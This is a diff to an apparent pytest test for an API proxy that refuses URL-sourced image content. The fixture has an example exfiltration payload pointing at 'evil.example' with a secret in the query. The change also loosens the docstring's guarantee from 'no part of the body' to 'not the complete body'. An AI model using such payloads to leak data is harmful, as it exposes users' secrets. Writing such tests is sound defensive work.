@@ -230,10 +230,8 @@ async def test_unbounded_search_with_budget_is_refused(api: ScriptedUpstream, tm
 
 @pytest.mark.parametrize("path", ["/v1/messages", "/v1/messages/count_tokens"])
 @pytest.mark.parametrize("size", [0, 300_000])
-async def test_closed_api_feature_is_refused_before_upstream(
-    api: ScriptedUpstream, tmp_path: Path, path: str, size: int
-) -> None:
-    """The upstream receives no part of the body, also when the body is large."""
+async def test_closed_api_feature_is_refused(api: ScriptedUpstream, tmp_path: Path, path: str, size: int) -> None:
+    """The upstream never receives the complete body, however large."""
     evil = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?secret"}}
     messages = [{"role": "user", "content": "a" * size}, {"role": "user", "content": [evil]}]
     async with proxy(tmp_path, api.url) as running:
